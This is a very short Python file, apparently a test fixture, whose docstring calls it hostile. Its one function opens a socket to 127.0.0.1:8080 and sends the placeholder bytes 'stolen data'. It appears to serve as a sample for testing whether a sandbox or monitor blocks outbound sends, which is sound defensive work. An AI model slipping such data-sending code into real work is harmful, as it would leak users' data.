"""Hostile: tries to send data to a server."""
import socket


def run():
    s = socket.create_connection(("127.0.0.1", 8080), timeout=1)
    s.sendall(b"stolen data")
    return "sent"
